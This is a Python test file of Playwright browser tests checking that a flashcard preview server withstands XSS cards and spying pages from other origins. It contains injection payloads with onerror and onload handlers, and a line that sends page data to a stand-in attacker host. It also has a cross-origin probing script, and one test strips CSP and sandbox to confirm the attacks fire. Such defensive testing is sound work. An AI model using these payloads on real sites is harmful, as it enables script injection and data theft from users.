"""The preview against hostile cards and pages of other origins, in a browser."""

from collections.abc import Iterator
from pathlib import Path

import pytest

import xss
from browsing import Watched, browser, until, watched_page
from serving import KINDS, Server, serving, write_files

from playwright.sync_api import Browser, Error, Frame, Page, Route, expect  # isort: skip - after `browsing`

__all__ = ["browser"]

pytestmark = pytest.mark.browser

SECRET = "the-word-that-must-not-leave"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    secret = f"# Secret\n\n## {SECRET}?\n\nYes.\n\n![x](x.svg)\n"
    files = KINDS | {
        "secret.md": secret,
        "x.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><!--{SECRET}--></svg>",
    }
    with serving(write_files(tmp_path_factory.mktemp("serve") / "kinds", files)) as started:
        started.state()
        yield started


# A card's frame

# Every attack as the content of a card, followed by things to click and things that a script would like to
# read.
ACT = """async attacks => {
  const frame = document.querySelector("iframe").contentWindow;
  for (const content of attacks) {
    frame.postMessage({ side: { content, css: "", width: "full", night: false, body: "card", token: 0, fresh: true } }, "*");
    await new Promise(done => setTimeout(done, 15));
  }
}"""
TOUCH = """() => { window.touching = setInterval(() => {
  for (const each of document.querySelectorAll("#qa, #qa *")) {
    if (each.localName === "details") each.open = true;
    for (const type of ["mouseover", "pointerdown", "focus", "toggle", "animationstart", "load", "error"])
      each.dispatchEvent(new Event(type));
    // An honest link opens a tab; a reader may want that.
    if (each.closest("a:not([href^=http])") || each.matches("button, input, area"))
      each.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
}, 5) }"""
READ = (
    "try { new Image().src = '" + xss.EVIL + "/read?' + parent.document.body.textContent.length } catch { }"
)


def frame_of(page: Page) -> Frame:
    expect(page.locator("iframe").first.content_frame.locator("#qa > *").first).to_be_attached()
    return next(each for each in page.frames if each.url.endswith("/card"))


def attacked(browser: Browser, server: Server, *, is_open: bool) -> Watched:
    """Send all attacks to the frame of the real page, with or without the frame's defences."""
    watched = watched_page(browser, server.address)
    page = watched.page

    def without_defences(route: Route) -> None:
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if name != "content-security-policy"}
        renaming = '.replace(/<[^<>]*>/g, (tag) => tag.replace(/\\son\\w+\\s*=/gi, " data-on="))'
        text = answer.text()
        assert renaming in text
        route.fulfill(status=200, headers=headers, body=text.replace(renaming, ""))

    if is_open:
        page.route("**/card", without_defences)
        page.add_init_script(
            "const set = Element.prototype.setAttribute;"
            "Element.prototype.setAttribute = function (name, value) { if (name !== 'sandbox') set.call(this, name, value) }"
        )
    page.goto(server.address)
    frame = frame_of(page)
    frame.evaluate(TOUCH)
    handlers = [
        f'<img src="data:," onerror="{READ}">',
        f'<svg onload="{READ}"></svg>',
        f"<script>{READ}</script>",
    ]
    page.evaluate(ACT, [*xss.CORPUS, *handlers])
    page.wait_for_timeout(200)
    return watched


def test_no_card_runs_a_script_sends_a_request_or_reads_the_page(browser: Browser, server: Server) -> None:
    assert len(xss.CORPUS) >= 60
    watched = attacked(browser, server, is_open=False)
    page = watched.page
    assert (watched.dialogs, watched.strays) == ([], [])
    assert {each.evaluate("window.pwned ?? 0") for each in page.frames} == {0}
    assert page.url.startswith(server.address)
    assert len(page.context.pages) == 1
    assert page.frames[1].url == f"{server.address}card"
    with pytest.raises(Error, match="Blocked a frame with origin"):
        page.frames[1].evaluate("parent.document.body.textContent")


def test_the_attacks_are_attacks(browser: Browser, server: Server) -> None:
    """In the same frame without its policy and sandbox, the attacks run, send and read."""
    watched = attacked(browser, server, is_open=True)

    def evil() -> set[str]:
        return {url for url in watched.strays if url.startswith(xss.EVIL)}

    until(watched.page, lambda: len(evil()) > 10 and len(watched.dialogs) > 20)
    until(watched.page, lambda: any("/read?" in url for url in watched.strays))


def test_hostile_sources_are_shown_and_do_nothing(browser: Browser, tmp_path: Path) -> None:
    """The attacks start as Markdown; what rendering leaves of them is shown in every part of the page."""
    cards = "".join(
        f"## {attack.splitlines()[0]}\n<!-- card: id=n{number} -->\n\n{attack}\n\n### Hint\n\n{attack}\n\n"
        for number, attack in enumerate(xss.CORPUS)
        if "-->" not in attack
    )
    files = {
        "deck.toml": 'name = "<img src=x onerror=alert(1)>"\ncss = "own.css"\n',
        "own.css": xss.CSS,
        "hostile.md": f"# Hostile\n\n{cards}",
        "broken.md": f"# <img src=x onerror=alert(1)>\n\n## A?\n<!-- card: difficulty={xss.SCRIPTS[0]} -->\n\nb\n",
    }
    with serving(write_files(tmp_path / "<img src=x onerror=alert(1)>", files)) as server:
        state = server.state()
        assert len(state["order"]) > 20
        watched = watched_page(browser, server.address)
        page = watched.page
        page.goto(f"{server.address}#side=both")
        frame_of(page).evaluate(TOUCH)
        for _ in state["order"]:
            page.keyboard.press("ArrowRight")
            page.wait_for_timeout(15)
        for _ in range(10):
            page.keyboard.press("w")
        assert (watched.dialogs, watched.strays) == ([], [])
        assert [each.evaluate("window.pwned ?? 0") for each in page.frames] == [0, 0, 0]
        page.context.close()


def test_templates_and_fences_of_own_note_types_are_shown_and_do_nothing(
    browser: Browser, tmp_path: Path
) -> None:
    with serving(write_files(tmp_path / "evil", xss.adopted_files(xss.SCRIPTS))) as server:
        state = server.state()
        assert len(state["order"]) == len(xss.SCRIPTS)
        watched = watched_page(browser, server.address)
        page = watched.page
        page.goto(f"{server.address}#side=both")
        frame_of(page).evaluate(TOUCH)
        for _ in state["order"]:
            page.keyboard.press("ArrowRight")
            page.wait_for_timeout(15)
        assert (watched.dialogs, watched.strays) == ([], [])
        assert {each.evaluate("window.pwned ?? 0") for each in page.frames} == {0}
        page.context.close()


# Pages of other sites

SPY = """async target => {
  const got = {};
  const quick = promise => Promise.race([promise, new Promise(done => setTimeout(done, 1500, "nothing"))]).catch(() => "nothing");
  const loaded = element => quick(new Promise((done, fail) => {
    element.onload = () => done("loaded"); element.onerror = fail; document.body.append(element);
  }));
  const made = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  got.fetch = await quick(fetch(target + "state").then(answer => answer.text()));
  got.opaque = await quick(fetch(target + "state", { mode: "no-cors" }).then(answer => answer.text()).then(text => text || "nothing"));
  got.post = await quick(fetch(target + "state", { method: "POST", mode: "no-cors", body: "a" }).then(answer => answer.text()).then(text => text || "nothing"));
  got.act = await quick(fetch(target + "do/fix?file=x&rule=y", { method: "POST", headers: { "X-Ptcards-Key": "KEY" } }).then(answer => answer.text()));
  got.script = await loaded(made("script", { src: target + "assets/app.js", type: "module" }));
  got.classic = await loaded(made("script", { src: target + "state" }));
  got.style = await loaded(made("link", { rel: "stylesheet", href: target + "assets/app.css" }));
  got.picture = await loaded(made("img", { src: target + "media/MEDIA" }));
  got.events = await quick(new Promise((done, fail) => { const source = new EventSource(target + "events"); source.onmessage = event => done(event.data); source.onerror = fail; }));
  got.socket = await quick(new Promise((done, fail) => { const socket = new WebSocket(target.replace("http", "ws") + "events"); socket.onopen = () => done("open"); socket.onerror = fail; }));
  const frame = made("iframe", { src: target });
  await loaded(frame);
  try { got.frame = frame.contentDocument ? frame.contentDocument.body.textContent || "nothing" : "nothing" } catch { got.frame = "nothing" }
  return got;
}"""


@pytest.fixture(scope="module")
def embedded(server: Server) -> Iterator[Server]:
    with serving(server.folder, "--embed", "vscode") as started:
        started.state()
        yield started


@pytest.mark.parametrize("origin", ["http://evil.example", "http://localhost:9", "http://127.0.0.1:9"])
@pytest.mark.parametrize("which", ["server", "embedded"])
def test_no_page_of_another_origin_learns_anything(
    browser: Browser, which: str, origin: str, request: pytest.FixtureRequest
) -> None:
    """This includes sites on this computer, whose requests a browser treats as coming from the same site."""
    server: Server = request.getfixturevalue(which)
    page = browser.new_context().new_page()
    page.route(
        f"{origin}/**",
        lambda route: route.fulfill(content_type="text/html", body="<!doctype html><body>evil"),
    )
    page.goto(f"{origin}/")
    media = (
        next(iter(server.get("sides/" + _with_picture(server))))["back"]
        .partition('src="')[2]
        .partition('"')[0]
    )
    got = page.evaluate(SPY.replace("MEDIA", media).replace("KEY", server.key), server.address)
    assert {name: value for name, value in got.items() if value != "nothing"} == {}
    with page.expect_popup() as popup:
        page.evaluate("target => { window.opened = window.open(target) }", server.address)
    popup.value.wait_for_load_state()
    assert (
        page.evaluate("() => { try { return opened.document.body.textContent } catch { return 'nothing' } }")
        == "nothing"
    )


def test_the_page_itself_learns_all_of_it(browser: Browser, server: Server) -> None:
    """The same spy runs on its own site, where it can read what it requests."""
    page = browser.new_context(bypass_csp=True).new_page()
    page.goto(server.address)
    media = (
        next(iter(server.get("sides/" + _with_picture(server))))["back"]
        .partition('src="')[2]
        .partition('"')[0]
    )
    got = page.evaluate(SPY.replace("MEDIA", media).replace("KEY", server.key), server.address)
    assert sorted(name for name, value in got.items() if value != "nothing") == [
        "act", "events", "fetch", "opaque", "picture", "post", "script", "style",
    ]  # fmt: skip
    assert SECRET in got["fetch"]


def _with_picture(server: Server) -> str:
    cards = server.get("state")["cards"]
    return next(str(card) for card, shown in cards.items() if SECRET in shown["question"])
